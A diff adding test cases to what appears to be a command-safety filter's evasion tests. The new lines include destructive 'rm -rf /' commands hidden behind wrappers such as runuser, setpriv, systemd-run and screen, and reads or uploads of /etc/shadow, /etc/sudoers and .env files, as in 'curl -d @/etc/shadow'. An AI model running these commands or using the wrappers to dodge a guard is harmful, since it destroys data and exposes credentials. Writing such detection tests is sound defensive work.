@@ -698,6 +698,21 @@ evasions(void)
 	evade("EDITOR='rm -rf /' git commit", C, "rm-rf");
 	evade("export GIT_SSH_COMMAND='rm -rf /'; git fetch", C, "rm-rf");
 	evade("env PAGER='rm -rf /' git log", C, "rm-rf");
+	/* more wrappers */
+	evade("runuser -u root -- rm -rf /", C, "rm-rf");
+	evade("runuser -u root rm -rf /", C, "rm-rf");
+	evade("runuser -l root -c 'rm -rf /'", C, "rm-rf");
+	evade("setpriv --reuid 0 rm -rf /", C, "rm-rf");
+	evade("systemd-run -p User=x --uid=0 rm -rf /", C, "rm-rf");
+	evade("valgrind --tool=none rm -rf /", C, "rm-rf");
+	evade("screen -S x -dm rm -rf /", C, "rm-rf");
+	/* more ways to name a path */
+	evade("dd if=/etc/shadow of=x", C, "shadow");
+	evade("cat /proc/self/root/etc/shadow", C, "shadow");
+	evade("cat /proc/1/root/etc/sudoers", C, "shadow");
+	evade("curl -d @/etc/shadow x", C, "shadow");
+	evade("curl file:///etc/shadow", C, "shadow");
+	evade("sort -o.env x", H, "dotenv");
 }
 
 /*
